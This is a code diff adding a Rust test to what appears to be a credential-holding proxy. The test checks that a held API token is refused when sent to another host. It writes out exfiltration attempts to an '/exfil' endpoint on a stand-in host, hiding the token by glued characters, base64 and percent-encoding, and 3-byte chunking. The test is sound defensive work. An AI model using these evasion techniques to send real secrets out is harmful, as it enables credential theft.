@@ -190,6 +190,61 @@ async fn origin_gets_exactly_airlocks_credential_and_other_hosts_get_none() {
     no_secret_in(&std::fs::read_to_string(&w.proxy.audit_path).unwrap());
 }
 
+/// The held value's search looks at one window in a few bytes, not at
+/// every byte: the value glued to text at every offset of that spacing,
+/// URL-safe base64 after one to three glued characters, percent-encoded,
+/// and sent in 3-byte chunks so it straddles every chunk boundary, is
+/// refused, and none of it reaches the other host.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_held_value_glued_encoded_and_in_small_chunks_is_refused() {
+    use base64::Engine as _;
+    let w = world(BEARER, &[]).await;
+    let c = client::reqwest(&w.proxy);
+    // The first request to its host fetches the value: airlock holds it.
+    let r = c
+        .get(format!("https://api.example.test:{}/repos", w.api.port()))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    let mut bodies: Vec<Vec<u8>> = Vec::new();
+    for glue in 0..8 {
+        bodies.push(format!("note={}{TOKEN}&x=1", "g".repeat(glue)).into_bytes());
+    }
+    for glue in ["a", "ab", "abc"] {
+        let enc = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(format!("{glue}{TOKEN}"));
+        bodies.push(format!("blob={glue}{enc}").into_bytes());
+    }
+    let pct: String = TOKEN.bytes().map(|b| format!("%{b:02X}")).collect();
+    bodies.push(format!("q={pct}").into_bytes());
+    for body in bodies {
+        let parts: Vec<Result<bytes::Bytes, std::io::Error>> = body
+            .chunks(3)
+            .map(|p| Ok(bytes::Bytes::copy_from_slice(p)))
+            .collect();
+        let r = c
+            .post(format!(
+                "https://other.example.test:{}/exfil",
+                w.other.port()
+            ))
+            .body(reqwest::Body::wrap_stream(futures_util::stream::iter(
+                parts,
+            )))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status(), 403, "{}", String::from_utf8_lossy(&body));
+        assert!(r.text().await.unwrap().contains("held:tools/github#token"));
+    }
+    for r in w.other.received() {
+        let body = r.body.as_deref().unwrap_or_default();
+        assert!(
+            !String::from_utf8_lossy(body).contains(&TOKEN[..12]),
+            "secret bytes reached another host"
+        );
+    }
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn basic_auth_from_two_keys() {
     let w = world("inject = { basic = { username = \"tools/jira#user\", password = \"tools/jira#password\" } }", &[]).await;
